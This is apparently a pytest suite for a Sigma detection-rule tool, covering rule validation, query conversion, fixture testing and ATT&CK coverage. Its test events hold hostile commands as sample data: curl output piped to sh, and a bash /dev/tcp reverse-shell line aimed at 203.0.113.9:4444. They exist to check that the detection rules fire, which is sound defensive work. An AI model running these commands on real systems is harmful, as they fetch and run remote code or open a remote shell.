"""``soar rules check|convert|test|coverage`` on small rules of our own, and every bad input as one line."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.unit.detection.helpers import CliResult, process_event, rule_yaml, run_cli, write
from tests.unit.test_cli import run_soar

RULE_ID = "6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0001"


@pytest.fixture
def pack(tmp_path: Path) -> Path:
    """One rule with fixtures, in a folder."""
    rules = tmp_path / "rules"
    write(
        rules / "curl_sh.yml",
        rule_yaml(
            {"sel": {"CommandLine|contains|all": ["curl ", "| sh"]}, "condition": "sel"},
            title="Download piped to a shell",
            rule_id=RULE_ID,
        ),
    )
    fixtures = {
        "should_match": [process_event("curl -s http://x/i.sh | sh")],
        "should_not_match": [process_event("curl -s -o i.sh http://x/i.sh")],
    }
    write(rules / "curl_sh.tests.yml", yaml.safe_dump(fixtures))
    return rules


@pytest.fixture
def soar(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path):  # type: ignore[no-untyped-def]
    """Run soar in-process with the state folder in tmp_path."""

    def run(*args: str) -> CliResult:
        return run_cli(capsys, monkeypatch, *args, env={"SOAR_STATE_DIR": str(tmp_path / "state")})

    return run


def test_check_clean_pack(soar: Any, pack: Path, tmp_path: Path) -> None:
    out = soar("rules", "check", str(pack))
    assert out.returncode == 0, out.stdout + out.stderr
    assert out.stdout == ""
    assert "1 rules checked, 0 problems" in out.stderr


def test_check_reports_every_problem_as_file_line_col(soar: Any, pack: Path, tmp_path: Path) -> None:
    text = rule_yaml({"sel": {"Image": "x"}, "condition": "sel"}, extra={"tags": ["attack.t9999", "attack.execution"]})
    text = text.replace("falsepositives:\n- None known\n", "")
    bad = write(pack / "bad.yml", text)
    write(pack / "broken.yml", "title: [unclosed\n")
    unmapped = write(pack / "unmapped.yml", rule_yaml({"sel": {"TargetImage": "x"}, "condition": "sel"}))
    out = soar("rules", "check", str(pack))
    assert out.returncode == 1
    lines = out.stdout.splitlines()
    tag_line = text.splitlines().index("- attack.t9999") + 1
    assert any(line.startswith(f"{pack / 'broken.yml'}:2:1: invalid YAML: ") for line in lines)
    assert f"{bad}:1:1: warning: missing required field 'falsepositives' [sigmahq_fields]" in lines
    unknown_tag = next(line for line in lines if "(attack.t9999)" in line)
    assert unknown_tag.startswith(f"{bad}:{tag_line}:3: warning: Invalid MITRE ATT&CK tagging (attack.t9999)")
    assert "not in the shipped ATT&CK data (v18.1)" in unknown_tag and unknown_tag.endswith("[attacktag]")
    assert not any("no ATT&CK technique tag" in line for line in lines)
    assert any(line.startswith(f"{unmapped}:") and "field 'TargetImage' is not mapped" in line for line in lines)
    assert "Traceback" not in out.stderr


def test_check_reports_sigmahq_conventions(soar: Any, pack: Path) -> None:
    text = rule_yaml({"sel": {"Image": "x"}, "condition": "sel"}, extra={"tags": ["attack.Execution"]})
    text = text.replace("description: A rule written by a test.\n", "").replace("author: soar tests\n", "")
    bad = write(pack / "conventions.yml", text)
    tags = text.splitlines().index("tags:") + 1
    out = soar("rules", "check", str(bad))
    assert out.returncode == 0, out.stdout  # conventions are warnings: a community rule missing them still runs
    assert "1 rules checked, 6 problems (0 errors, 6 warnings)" in out.stderr
    lines = out.stdout.splitlines()
    assert lines[:2] == [
        f"{bad}:1:1: warning: missing required field 'description' [sigmahq_fields]",
        f"{bad}:1:1: warning: missing required field 'author' [sigmahq_fields]",
    ]
    assert lines[2:4] == [
        f"{bad}:{tags}:1: warning: no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN) [attack_technique_tag]",
        f"{bad}:{tags + 1}:3: warning: tag 'attack.Execution' must be lower case [lowercase_tags]",
    ]
    assert lines[4].startswith(f"{bad}:{tags + 1}:3: warning: Invalid MITRE ATT&CK tagging (attack.Execution)")
    # pySigma's spelling
    assert (
        lines[5]
        == f"{bad}:{tags + 1}:3: warning: Invalid char in namaspace or name tag (attack.Execution) [tag_format]"
    )
    assert soar("rules", "check", str(bad), "--strict").returncode == 1  # our own pack keeps them all
    quiet = soar("rules", "check", str(bad), "-x", "sigmahq_fields", "-x", "attacktag", "--json")
    report = json.loads(quiet.stdout)
    assert report["warnings"] == 3 and report["errors"] == 0
    assert report["problems"][0] == {
        "file": str(bad),
        "line": tags,
        "column": 1,
        "severity": "warning",
        "validator": "attack_technique_tag",
        "message": "no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN)",
    }
    unknown = soar("rules", "check", str(bad), "-x", "nope")
    assert unknown.returncode != 0 and "--exclude: unknown validator 'nope' (known: required_fields" in unknown.stderr


def test_convert_elasticsearch_json_and_embedded(soar: Any, pack: Path, tmp_path: Path) -> None:
    out = soar("rules", "convert", str(pack), "--json")
    assert out.returncode == 0, out.stderr
    (compiled,) = json.loads(out.stdout)
    assert compiled["rule_id"] == RULE_ID
    query = compiled["dsl"]["query"]

    def ci(kind: str, field: str, value: str) -> dict[str, Any]:
        return {kind: {field: {"value": value, "case_insensitive": True}}}

    # One query per real source carrying process_creation (pipelines/sources.yml), OR-ed; case decided per
    # value on any mapping, no template of soar's over the events.
    assert compiled["sources"] == ["endpoint", "sysmon_linux", "auditd_manager"]
    assert compiled["left_out"] == {"auditd_log": "auditd_log does not write CommandLine"}
    # Sources whose rule part is the same share it: (Defend's or Sysmon's conditions) AND the command line.
    # Defend's branch (ECS categorisation only) first excludes the other process_creation sources' documents.
    shared, auditd = query["bool"]["should"]
    either, *body = shared["bool"]["filter"]
    assert either == {
        "bool": {
            "should": [
                {
                    "bool": {
                        "filter": [
                            {"bool": {"must_not": [{"term": {"event.dataset": "sysmon_linux.log"}}]}},
                            {"bool": {"must_not": [{"term": {"event.module": "auditd"}}]}},
                            {"bool": {"must_not": [{"term": {"event.dataset": "auditd.log"}}]}},
                            {"term": {"event.category": "process"}},
                            {"term": {"event.type": "start"}},
                        ]
                    }
                },
                {
                    "bool": {
                        "filter": [
                            {"term": {"event.dataset": "sysmon_linux.log"}},
                            {"term": {"event.code": "1"}},
                        ]
                    }
                },
            ],
            "minimum_should_match": 1,
        }
    }
    assert body == [ci("wildcard", "process.command_line", "*curl *"), ci("wildcard", "process.command_line", "*| sh*")]
    assert ci("wildcard", "process.title", "*curl *") in auditd["bool"]["filter"]  # the command line of auditd
    out = soar("rules", "convert", str(pack), "--target", "lucene")
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines()[1] == (
        "(event.category:process AND event.type:start) AND "
        "(process.command_line:*curl\\ * AND process.command_line:*\\|\\ sh*)"
    )
    out = soar("rules", "convert", str(pack), "--target", "embedded")
    assert out.returncode == 0, out.stderr
    assert "SELECT id FROM events WHERE" in out.stdout
    assert "json_each(flat, '$.\"process.command_line\"')" in out.stdout


def test_convert_exports(soar: Any, pack: Path, tmp_path: Path) -> None:
    out = soar("rules", "convert", str(pack), "--format", "kibana-ndjson")
    assert out.returncode == 0, out.stderr
    rule = json.loads(out.stdout.splitlines()[0])
    assert rule["rule_id"] == RULE_ID
    assert rule["threat"][0]["technique"][0]["id"] == "T1059"  # ATT&CK names from the shipped data
    assert rule["threat"][0]["technique"][0]["name"] == "Command and Scripting Interpreter"
    out = soar("rules", "convert", str(pack), "--format", "elastalert")
    assert out.returncode == 0, out.stderr
    elastalert = yaml.safe_load(out.stdout)
    assert elastalert["name"].startswith("Download piped to a shell")
    assert "process.command_line" in json.dumps(elastalert["filter"])


CORRELATED = """\
title: SSH failure (building block)
id: 6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0101
name: x_ssh_failure
status: test
description: A failed SSH login.
author: soar tests
date: 2026-11-28
tags: [attack.credential-access, attack.t1110]
logsource: {product: linux, service: sshd}
detection:
  sel: {event.outcome: failure}
  condition: sel
falsepositives: [Typos]
level: informational
---
title: Brute force
id: 6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0102
status: test
correlation:
  type: event_count
  rules: [x_ssh_failure]
  group-by: [SourceIp]
  timespan: 5m
  condition: {gte: 10}
level: high
---
title: Success after a failure
id: 6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0103
status: test
correlation:
  type: temporal_ordered
  rules: [x_ssh_failure, x_ssh_failure]
  group-by: [SourceIp]
  timespan: 5m
level: high
"""


def test_exports_keep_stdout_clean_and_treat_building_blocks_as_sigma_generate_false(
    soar: Any, pack: Path, tmp_path: Path
) -> None:
    corr = write(pack / "brute.yml", CORRELATED)
    temporal_line = CORRELATED.splitlines().index("  type: temporal_ordered") + 1
    out = soar("rules", "convert", str(pack), "--format", "kibana-ndjson")
    assert out.returncode == 1  # the temporal correlation cannot be a Kibana rule: said on stderr, not in the file
    rules = {r["rule_id"]: r for r in map(json.loads, out.stdout.splitlines())}
    assert set(rules) == {RULE_ID, "6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0101", "6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0102"}
    assert rules["6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0101"]["building_block_type"] == "default"
    assert "building_block_type" not in rules[RULE_ID]
    # the event_count correlation is a Kibana threshold rule over its block's query, grouped by the mapped field
    brute = rules["6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0102"]
    assert (brute["type"], brute["threshold"], brute["from"]) == (
        "threshold",
        {"field": ["source.ip"], "value": 10},
        "now-300s",
    )
    assert brute["query"] == rules["6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0101"]["query"]
    assert "not a sliding window" in brute["note"]
    assert out.stderr.strip() == (
        f"{corr}:{temporal_line}:3: not exported as kibana-ndjson: "
        "a temporal_ordered correlation has no Kibana threshold equivalent (soar runs it)"
    )
    out = soar("rules", "convert", str(pack), "--format", "elastalert")
    assert out.returncode == 1
    docs = list(yaml.safe_load_all(out.stdout))
    assert [d["name"] for d in docs] == ["Brute force", "Download piped to a shell"]  # the block is inside
    assert (docs[0]["type"], docs[0]["num_events"], docs[0]["query_key"]) == ("frequency", 10, ["source.ip"])
    assert docs[0]["timeframe"] == {"minutes": 5}
    assert "system.auth" in docs[0]["filter"][0]["query"]["query_string"]["query"]
    assert out.stderr.strip() == (
        f"{corr}:{temporal_line}:9: not exported as elastalert: "
        "Correlation rule type 'temporal_ordered' is not supported by backend."
    )
    # --skip-unsupported (as sigma-cli's): what the format cannot express is listed, not a failure ...
    out = soar("rules", "convert", str(pack), "--format", "elastalert", "--skip-unsupported")
    assert out.returncode == 0, out.stderr
    assert [d["name"] for d in yaml.safe_load_all(out.stdout)] == ["Brute force", "Download piped to a shell"]
    assert out.stderr.strip() == f"skipped: {corr}:{temporal_line}:9: not exported as elastalert: " + (
        "Correlation rule type 'temporal_ordered' is not supported by backend."
    )
    # ... but a broken rule still fails the export
    write(pack / "broken.yml", CORRELATED.split("---")[0].replace("event.outcome", "NoSuchField"))
    out = soar("rules", "convert", str(pack), "--format", "kibana-ndjson", "--skip-unsupported")
    assert out.returncode == 1
    assert "NoSuchField" in out.stderr and out.stderr.count("skipped: ") == 1  # the temporal one
    assert f"{corr}:" in out.stderr.split("not exported: ")[0].splitlines()[-1]  # the count one, at its rules


@pytest.mark.parametrize(("fmt", "expected"), [("esql", "process.command_line"), ("eql", "process.command_line")])
def test_convert_optional_query_language_exports(soar: Any, pack: Path, fmt: str, expected: str) -> None:
    out = soar("rules", "convert", str(pack), "--format", fmt)
    assert out.returncode == 0, out.stderr
    assert expected in out.stdout and "curl" in out.stdout


def test_test_fixtures_embedded(soar: Any, pack: Path, tmp_path: Path) -> None:
    out = soar("rules", "test", str(pack))
    assert out.returncode == 0, out.stdout + out.stderr
    assert f"PASS  {RULE_ID}  Download piped to a shell" in out.stdout
    assert "1 passed, 0 failed (embedded)" in out.stderr


def test_test_fails_with_the_offending_event(soar: Any, pack: Path, tmp_path: Path) -> None:
    fixtures = yaml.safe_load((pack / "curl_sh.tests.yml").read_text())
    fixtures["should_not_match"].append(process_event("curl http://x | sh -s"))
    (pack / "curl_sh.tests.yml").write_text(yaml.safe_dump(fixtures))
    out = soar("rules", "test", str(pack), "--json")
    assert out.returncode == 1
    (result,) = json.loads(out.stdout)["results"]
    assert result["passed"] is False
    (failure,) = result["failures"]
    assert "curl_sh.tests.yml:" in failure
    assert "should_not_match[1] matched" in failure
    assert "curl http://x | sh -s" in failure


def test_test_with_events_file_json_and_jsonl(soar: Any, pack: Path, tmp_path: Path) -> None:
    events = [process_event("ls"), process_event("curl a | sh"), process_event("CURL b | SH")]
    array = write(tmp_path / "events.json", json.dumps(events))
    lines = write(tmp_path / "events.jsonl", "\n".join(json.dumps(e) for e in events) + "\n")
    for path in (array, lines):
        out = soar("rules", "test", str(pack), "--events", str(path), "--json")
        assert out.returncode == 0, out.stderr
        assert json.loads(out.stdout)["rules"] == [
            {"id": RULE_ID, "title": "Download piped to a shell", "matched_events": [1, 2], "absent_fields": []}
        ]


def test_events_lacking_the_fields_a_rule_reads_are_named(soar: Any, pack: Path, tmp_path: Path) -> None:
    """Not an error (the rule simply does not match), but the user learns why: no event has what the rule reads."""
    event = process_event("curl a | sh")
    del event["process"]["command_line"]  # as Auditbeat writes an exec: args and title, never command_line
    path = write(tmp_path / "events.json", json.dumps([event]))
    for engine_args in ((), ("-e", "embedded")):
        out = soar("rules", "test", str(pack), "--events", str(path), *engine_args)
        assert out.returncode == 0, out.stderr
        assert out.stdout.splitlines() == [
            f"{RULE_ID}  Download piped to a shell: -",
            "    no event has process.command_line",  # the closest source (Elastic Defend's shape) lacks only it
        ]


def test_coverage(soar: Any, pack: Path, tmp_path: Path) -> None:
    write(pack / "unmapped.yml", rule_yaml({"sel": {"TargetImage": "x"}, "condition": "sel"}, title="Unmapped"))
    out = soar("rules", "coverage", str(pack), "--json")
    assert out.returncode == 0, out.stderr
    data = json.loads(out.stdout)
    assert data["logsources"] == {"product:linux/category:process_creation": 2}
    assert data["techniques"]["T1059.004"] == {"name": "Unix Shell", "rules": 2}
    ok = next(r for r in data["rules"] if r["id"] == RULE_ID)
    assert ok["fields"] == ["event.category", "event.type", "process.command_line"]
    (failed,) = data["failed"]
    assert "field 'TargetImage' is not mapped by ecs_linux" in failed["error"]
    out = soar("rules", "coverage", str(pack))
    assert "cannot compile:" in out.stdout and "Unix Shell" in out.stdout


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (("convert", "--pipeline", "nope"), "error: --pipeline nope: unknown pipeline (known: "),
        (("convert", "--target", "splunk"), "error: --target splunk: unknown target"),
        (("convert", "--format", "splunk"), "error: --format splunk: unknown format"),
        (("test", "--engine", "splunk"), "error: --engine splunk: unknown engine"),
        (("check", "/does/not/exist"), "error: /does/not/exist: no such file or folder"),
    ],
)
def test_bad_options_are_one_line(soar: Any, pack: Path, tmp_path: Path, args: tuple[str, ...], expected: str) -> None:
    out = soar("rules", *args[:1], *([str(pack)] if args[0] != "check" else []), *args[1:])
    assert out.returncode in (1, 2)
    assert out.stderr.startswith(expected), out.stderr
    assert len(out.stderr.strip().splitlines()) == 1
    assert "Traceback" not in out.stderr


def test_events_file_that_is_not_json(soar: Any, pack: Path, tmp_path: Path) -> None:
    bad = write(tmp_path / "events.jsonl", '{"a": 1}\n{"b": \n')
    # a real process: the one line and the exit code are what a user sees
    out = run_soar("rules", "test", str(pack), "--events", str(bad), env={"SOAR_STATE_DIR": str(tmp_path / "s")})
    assert out.returncode == 1
    assert out.stderr.startswith(
        f"error: {bad}:2:7: not valid JSON (expected a JSON array or one JSON object per line)"
    )
    assert len(out.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "1: empty events file (expected a JSON array or one JSON object per line)"),
        ("  \n", "1: empty events file (expected a JSON array or one JSON object per line)"),
        ('[\n  {"a": 1},\n  {"b": 2}, 7\n]\n', "3:13: event 2 is a number, not a JSON object"),
        ('[{"a": 1}, [{"b": 2}]]', "1:12: event 1 is an array, not a JSON object"),
        ('{"a": 1}\n\n  "x"\n', "3:3: event 1 is a string, not a JSON object"),
        ("null\n", "1:1: event 0 is null, not a JSON object"),
        ('[{"a": 1},\n {"b": }]', "2:8: not valid JSON: Expecting value"),
        (
            '[{"@timestamp": "2026-11-28T10:00:00Z"},\n\n  {"@timestamp": "yesterday"}]',
            "3:3: event 1: @timestamp 'yesterday' is not an ISO 8601 date",
        ),
        (
            '{"process": {"name": "sh"}}\n{"process": "sh"}\n',
            "2:1: event 1: field 'process' is a value here but an object in event 0 (Elasticsearch indexes only one)",
        ),
        (
            '{"user": ["root"]}\n{"user.name": "root"}\n',
            "2:1: event 1: field 'user' is an object here but a value in event 0 (Elasticsearch indexes only one)",
        ),
    ],
    ids=[
        "empty",
        "blank",
        "array element",
        "nested array",
        "jsonl string",
        "jsonl null",
        "array syntax",
        "timestamp",
        "object then value",
        "dotted key",
    ],
)
def test_events_file_of_the_wrong_shape_names_file_and_line(
    soar: Any, pack: Path, tmp_path: Path, text: str, expected: str
) -> None:
    bad = write(tmp_path / "events.json", text)
    out = soar("rules", "test", str(pack), "--events", str(bad))
    assert out.returncode == 1
    assert out.stderr.strip() == f"error: {bad}:{expected}"
    assert out.stdout == ""


def test_unmapped_field_and_unknown_modifier_fail_convert_with_file_line(soar: Any, pack: Path, tmp_path: Path) -> None:
    text = rule_yaml({"sel": {"Imagee": "x"}, "condition": "sel"})
    bad = write(pack / "bad.yml", text)
    line = next(i for i, s in enumerate(text.splitlines(), 1) if "Imagee" in s)
    mod = write(pack / "mod.yml", rule_yaml({"sel": {"Image|endswit": "x"}, "condition": "sel"}))
    out = soar("rules", "convert", str(pack))
    assert out.returncode == 1
    assert f"{bad}:{line}:5: field 'Imagee' is not mapped by ecs_linux" in out.stderr
    assert f"{mod}:" in out.stderr and "Unknown modifier 'endswit'" in out.stderr
    assert f"# {RULE_ID}" in out.stdout  # the good rule is still converted


def test_elasticsearch_down_is_one_line_and_exit_2(soar: Any, pack: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOAR_ELASTICSEARCH_URL", "http://127.0.0.1:9")
    out = soar("rules", "test", str(pack), "--engine", "elasticsearch")
    assert out.returncode == 2
    assert out.stderr.strip() == "error: Elasticsearch at http://127.0.0.1:9 is not reachable: connection refused"


def test_an_empty_rule_file_and_fixtures_without_a_rule_are_problems_not_skipped(
    soar: Any, pack: Path, tmp_path: Path
) -> None:
    empty = write(pack / "empty.yml", "\n")
    orphan = write(pack / "renamed.tests.yml", (pack / "curl_sh.tests.yml").read_text())
    expected = [
        f"{empty}:1: empty rule file: no Sigma rule in it",
        f"{orphan}:1: fixtures without a rule: no rule file of that name beside them",
    ]
    out = soar("rules", "check", str(pack))
    assert out.returncode == 1
    assert out.stdout.splitlines() == expected
    out = soar("rules", "test", str(pack))
    assert out.returncode == 1
    assert f"PASS  {RULE_ID}" in out.stdout  # the rest of the collection still runs
    assert out.stdout.splitlines()[-2:] == expected
    assert "1 passed, 0 failed (embedded); 2 load errors" in out.stderr


def test_a_fixture_timestamp_that_is_not_a_date_fails_the_rule_at_its_line(soar: Any, pack: Path) -> None:
    fixtures = yaml.safe_load((pack / "curl_sh.tests.yml").read_text())
    copied = copy.deepcopy(fixtures["should_not_match"][0])  # shared values would be dumped as aliases (refused)
    fixtures["should_not_match"].append({**copied, "@timestamp": "yesterday"})
    (pack / "curl_sh.tests.yml").write_text(yaml.safe_dump(fixtures))
    out = soar("rules", "test", str(pack), "--json")
    assert out.returncode == 1
    (result,) = json.loads(out.stdout)["results"]
    (failure,) = result["failures"]
    assert failure.startswith(f"{pack / 'curl_sh.tests.yml'}:")
    assert failure.endswith(": should_not_match[1]: @timestamp 'yesterday' is not an ISO 8601 date")


def test_coverage_sources_prints_the_rule_by_source_matrix(soar: Any, pack: Path) -> None:
    out = soar("rules", "coverage", str(pack), "--sources")
    assert out.returncode == 0, out.stderr
    header, _, row = out.stdout.splitlines()[:3]
    assert header.split()[-6:] == [
        "endpoint",
        "sysmon_linux",
        "auditd_manager",
        "auditd_log",
        "file_integrity",
        "system",
    ]
    assert row.split()[-6:] == ["yes", "yes", "yes", "no", "-", "-"]
    assert "left out: " in out.stdout and "auditd_log: auditd_log does not write CommandLine" in out.stdout
    data = json.loads(soar("rules", "coverage", str(pack), "--json").stdout)
    assert data["rules"][0]["left_out"] == {"auditd_log": "auditd_log does not write CommandLine"}


def test_the_shipped_pack_is_clean_even_under_strict(soar: Any) -> None:
    from tests.conftest import REPO_ROOT

    out = soar("rules", "check", str(REPO_ROOT / "rules"), "--strict")
    assert out.returncode == 0, out.stdout
    assert out.stdout == "" and "problems (0 errors, 0 warnings)" in out.stderr


def test_community_rules_as_published_are_errors_or_warnings_with_a_summary(soar: Any) -> None:
    """SigmaHQ's rules/linux: every rule compiles for both engines or is refused with one reason at its line;
    tags newer than the bundled ATT&CK are warnings, not failures of the rule."""
    from tests.conftest import REPO_ROOT

    community = REPO_ROOT / "tests" / "data" / "sigmahq" / "rules" / "linux"  # provenance: its README.md
    out = soar("rules", "check", str(community), "--json", "--summary")
    report = json.loads(out.stdout)
    assert report["rules"] == 210 and "Traceback" not in out.stderr
    problems = report["problems"]
    assert all(set(p) == {"file", "line", "column", "severity", "validator", "message"} for p in problems)
    assert all(p["line"] for p in problems)  # every problem names its line
    tags = [p for p in problems if p["validator"] == "attacktag"]
    assert tags and {p["severity"] for p in tags} == {"warning"}
    assert any("(attack.stealth)" in p["message"] for p in tags)
    refused = [p for p in problems if p["validator"].startswith("compile:")]
    assert refused and {p["severity"] for p in refused} == {"error"}
    refused_rules = {p["file"] for p in refused}
    per_rule = {f: [p for p in refused if p["file"] == f] for f in refused_rules}
    assert all(len(v) <= 2 for v in per_rule.values())  # one reason (at most once per engine when they differ)
    assert out.returncode == 1  # refusals are errors
    assert any("compile:elasticsearch" in line for line in report["summary"])


def test_update_attack_loads_a_newer_bundle_offline(
    soar: Any, pack: Path, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """A bundle as MITRE publishes it (here the shipped one with the tactic renamed the way v19 renamed it, and
    its version changed), reduced and kept in the state folder: the tag it adds is no longer unknown."""
    from soar.detection._attack import shipped_bundle_path, use_attack_data_dir

    request.addfinalizer(lambda: use_attack_data_dir(None))  # in-process runs: the next test reads the shipped data
    rule = write(
        pack / "stealthy.yml",
        rule_yaml({"sel": {"Image": "x"}, "condition": "sel"}, extra={"tags": ["attack.stealth", "attack.t1059"]}),
    )
    before = soar("rules", "check", str(rule))
    assert "Invalid MITRE ATT&CK tagging (attack.stealth)" in before.stdout and "(v18.1)" in before.stdout
    bundle = json.loads(shipped_bundle_path().read_text())
    for obj in bundle["objects"]:
        if obj.get("x_mitre_shortname") == "defense-evasion":
            obj.update(name="Stealth", x_mitre_shortname="stealth")
        if obj["type"] == "x-mitre-collection":
            obj["x_mitre_version"] = "19.0-test"
        if obj["type"] == "attack-pattern":
            obj["description"] = "not read by validation: left out of the kept bundle"
    downloaded = write(tmp_path / "enterprise-attack.json", json.dumps(bundle))
    updated = soar("rules", "update-attack", str(downloaded))
    assert updated.returncode == 0, updated.stderr
    assert "ATT&CK v19.0-test" in updated.stdout and "(was v18.1)" in updated.stdout
    kept = tmp_path / "state" / "attack" / "enterprise-attack.json"
    assert "not read by validation" not in kept.read_text()
    after = soar("rules", "check", str(rule))
    assert after.returncode == 0 and "attack.stealth" not in after.stdout, after.stdout
    for bad, why in (("[1, 2]", "not a STIX bundle"), ('{"type": "bundle", "objects": []}', "no x-mitre-collection")):
        broken = soar("rules", "update-attack", str(write(tmp_path / "bad.json", bad)))
        assert broken.returncode != 0 and why in broken.stderr and "Traceback" not in broken.stderr
    assert json.loads(kept.read_text())["objects"]  # a refused file left the loaded bundle as it was


def test_a_product_linux_keyword_rule_searches_every_linux_log_line(soar: Any, tmp_path: Path) -> None:
    """``product: linux`` alone (SigmaHQ's keyword rules) means the Linux log lines soar knows: the system
    integration's auth and syslog documents. Real documents (tests/data/shippers), the line changed."""
    from tests.conftest import REPO_ROOT

    shippers = REPO_ROOT / "tests" / "data" / "shippers"
    syslog = json.loads((shippers / "system_syslog" / "systemd_started_ssh_service_start.json").read_text())
    endpoint = json.loads((shippers / "endpoint" / "linux_exec_ls_dev_build.json").read_text())
    line = "May 27 11:19:36 web1 bash[4242]: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"

    def syslog_doc(message: str) -> dict[str, Any]:
        doc = json.loads(json.dumps(syslog["document"]))
        doc.update(message=message, event={**doc["event"], "dataset": syslog["provenance"]["data_stream"]})
        return doc

    events = [
        syslog_doc(line),  # the reverse shell in a syslog line
        syslog_doc("May 27 11:19:36 web1 systemd[1]: Started ssh.service"),
        {**endpoint["document"], "message": line},  # an EDR document is not a log line
    ]
    events_file = write(tmp_path / "events.json", json.dumps(events))
    rule = write(
        tmp_path / "rules" / "dev_tcp.yml",
        rule_yaml({"keywords": ["bash -i >& /dev/tcp/"], "condition": "keywords"}, logsource={"product": "linux"}),
    )
    for engine in ("embedded",):
        out = soar("rules", "test", str(rule), "--events", str(events_file), "--engine", engine, "--json")
        assert out.returncode == 0, out.stdout + out.stderr
        (row,) = json.loads(out.stdout)["rules"]
        assert row["matched_events"] == [0], row  # the first event only (0-based)
    compiled = json.loads(soar("rules", "convert", str(rule), "--json").stdout)[0]
    assert compiled["sources"] == ["system"]
    assert {"terms": {"event.dataset": ["system.auth", "system.syslog"]}} in compiled["dsl"]["query"]["bool"]["filter"]
